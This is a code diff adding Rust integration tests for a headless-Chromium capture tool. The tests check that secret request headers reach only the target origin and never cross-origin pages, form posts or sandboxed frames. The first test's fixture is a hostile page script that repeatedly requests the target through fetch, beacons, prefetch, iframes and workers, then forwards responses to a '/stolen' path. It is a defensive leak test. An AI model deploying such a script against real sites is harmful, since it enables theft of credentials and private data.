@@ -208,3 +208,92 @@ async fn browser_names_itself_without_headless_and_with_the_token() {
     assert!(phone.contains("accept-language: de"), "{phone}");
     rig.chromium.shutdown().await;
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn page_of_another_origin_gets_no_headers_while_a_navigation_to_the_target_is_pending() {
+    // The page from another origin goes back to the target, which is slow to answer, and meanwhile asks the target for
+    // everything it can, in the main frame, a frame, workers and when it is left.
+    let asks = "<!doctype html><p>other</p><script>
+        const own = '{query}'; let count = 0;
+        const ask = () => {
+            fetch(`${own}/api?${count++}`).then((answer) => answer.text()).then((text) => fetch('/stolen?' + text)).catch(() => {});
+            fetch(own + '/api', { referrerPolicy: 'no-referrer', mode: 'no-cors' }).catch(() => {});
+            const picture = new Image(); picture.src = `${own}/api?i${count}`;
+            navigator.sendBeacon(own + '/api?beacon');
+            document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${own}/api?p${count}` }));
+            if (count == 2) document.body.append(Object.assign(document.createElement('iframe'), { src: own + '/api?frame' }));
+        };
+        const loop = `const ask = () => fetch('${own}/api?worker').catch(() => {}); ask(); setInterval(ask, 20)`;
+        new Worker(URL.createObjectURL(new Blob([loop])));
+        addEventListener('pagehide', () => { navigator.sendBeacon(own + '/api?left'); fetch(own + '/api?kept', { keepalive: true }) });
+        location.href = own + '/slow'; ask(); setInterval(ask, 20);</script>";
+    let open = "Content-Type: text/plain\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *";
+    let other = Site::start(3, [("/asks", html(asks)), ("/stolen", answer("200 OK", "", ""))]).await;
+    let slow = html("<!doctype html><body style='background:lime'><p>own</p><img src=/own>").after(600);
+    let site =
+        Site::start(2, [("/slow", slow), ("/api", answer("200 OK", open, "secret")), ("/own", svg("lime"))]).await;
+    let rig = Rig::with(&[2, 3], |_| {}).await;
+    let origin = site.url("");
+    let image = rig.capture(with(&site.url(&format!("/to?{}", other.url(&format!("/asks?{origin}")))), &SECRETS)).await;
+    assert_eq!(image.colour(600, 600), "lime");
+    let asked = site.heads("/api");
+    assert!(asked.len() > 10, "{asked:?}");
+    let given: Vec<_> =
+        asked.iter().filter(|head| head.contains("hidden-1") || head.contains("authorization")).collect();
+    assert!(given.is_empty(), "{given:?}");
+    // The document that replaced the page acts for the caller again.
+    assert!(has_secrets(&site.heads("/slow")[0]) && has_secrets(&site.heads("/own")[0]), "{}", site.all_heads());
+    assert!(!other.all_heads().contains("hidden-1"));
+    rig.chromium.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn form_of_a_page_of_another_origin_is_sent_without_headers() {
+    let form = "<form method=post action='{query}'></form><script>document.forms[0].submit()</script>";
+    let other = Site::start(3, [("/form", html(form)), ("/link", html("<script>location = '{query}'</script>"))]).await;
+    let site = Site::start(2, [("/action", html("<p>done"))]).await;
+    let rig = Rig::with(&[2, 3], |_| {}).await;
+    for (path, is_sent) in [("/form", false), ("/link", true)] {
+        let back = other.url(&format!("{path}?{}", site.url("/action")));
+        rig.capture(with(&site.url(&format!("/to?{back}")), &SECRETS)).await;
+        let head = site.heads("/action").pop().unwrap();
+        assert_eq!(has_secrets(&head), is_sent, "{path}: {head}");
+    }
+    rig.chromium.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn documents_in_a_sandbox_get_no_headers_and_workers_of_the_target_do() {
+    let page = "<!doctype html><iframe sandbox='allow-scripts' src='/boxed'></iframe>
+        <iframe sandbox='allow-scripts' srcdoc=\"<img src='{site}/in-srcdoc'>\"></iframe>
+        <iframe srcdoc=\"<img src='{site}/in-own-srcdoc'>\"></iframe>
+        <script>new Worker('/worker.js').onmessage = () => document.body.append('done')</script>";
+    let worker = "fetch('/from-worker').then(() => postMessage(1))";
+    let site = Site::start(
+        2,
+        [
+            ("/", html(page)),
+            ("/boxed", html("<img src=/in-box>")),
+            ("/worker.js", answer("200 OK", "Content-Type: text/javascript", worker)),
+            ("/in-box", svg("lime")),
+            ("/in-srcdoc", svg("lime")),
+            ("/in-own-srcdoc", svg("lime")),
+            ("/from-worker", answer("200 OK", "Content-Type: text/plain", "x")),
+        ],
+    )
+    .await;
+    let rig = Rig::start().await;
+    rig.capture(with(&site.url("/"), &SECRETS)).await;
+    for (path, is_sent) in [
+        ("/", true),
+        ("/worker.js", true),
+        ("/from-worker", true),
+        ("/in-own-srcdoc", true),
+        ("/in-box", false),
+        ("/in-srcdoc", false),
+    ] {
+        let heads = site.heads(path);
+        assert!(heads.len() == 1 && has_secrets(&heads[0]) == is_sent, "{path}: {heads:?}");
+    }
+    rig.chromium.shutdown().await;
+}
